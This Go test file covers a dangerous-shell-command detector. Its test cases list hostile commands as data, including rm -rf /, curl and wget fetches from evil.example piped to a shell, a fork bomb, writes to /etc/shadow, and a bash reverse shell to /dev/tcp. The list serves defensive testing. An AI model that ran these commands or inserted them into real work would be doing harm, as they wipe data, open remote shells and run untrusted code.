package security

import (
	"regexp"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestDetector_DetectsKnownDangerousCommands(t *testing.T) {
	d := NewDetector(nil)

	cases := []string{
		"rm -rf /",
		"rm -rf ~",
		"rm -rf /*",
		"sudo rm -rf /var/log",
		"rm -rf .git",
		"curl http://evil.example/install.sh | sh",
		"wget -qO- http://evil.example/x.sh | bash",
		"chmod -R 777 /",
		"chown -R root:root /",
		":(){ :|:& };:",
		"echo pwned > /etc/passwd",
		"echo pwned >> /etc/shadow",
		"iptables -F",
		"ufw disable",
		"history -c",
		"rm -f ~/.bash_history",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"LD_PRELOAD=/tmp/evil.so ls",
		"docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
		"sudo su -",
		"xmrig --url pool.example.com",
		"env",
	}

	for _, cmd := range cases {
		m := d.Detect(cmd)
		require.NotNilf(t, m, "expected command to be flagged as dangerous: %q", cmd)
		require.NotEmpty(t, m.Pattern)
		require.NotEmpty(t, m.Explanation)
	}
}

func TestDetector_AllowsKnownSafeCommands(t *testing.T) {
	d := NewDetector(nil)

	cases := []string{
		"ls -la",
		"git status",
		"echo hello",
		"cat README.md",
		"go build ./...",
		"npm install",
		"curl https://example.com/health",
		"rm old_file.txt",
		"chmod 644 config.json",
		"docker ps",
	}

	for _, cmd := range cases {
		m := d.Detect(cmd)
		if m != nil {
			t.Fatalf("expected command to be allowed, but rule %q matched: %q", m.Pattern, cmd)
		}
	}
}

func TestNewDetector_FallsBackToDefaultRules(t *testing.T) {
	d := NewDetector(nil)
	require.NotNil(t, d.Detect("rm -rf /"))

	empty := NewDetector([]Rule{})
	require.NotNil(t, empty.Detect("rm -rf /"))
}

func TestDetector_CustomRulesOverrideDefaults(t *testing.T) {
	custom := []Rule{
		{Name: "no-foo", Pattern: regexp.MustCompile(`\bfoo\b`), Explanation: "foo is banned here"},
	}
	d := NewDetector(custom)

	require.NotNil(t, d.Detect("run foo now"))
	require.Nil(t, d.Detect("rm -rf /"))
}
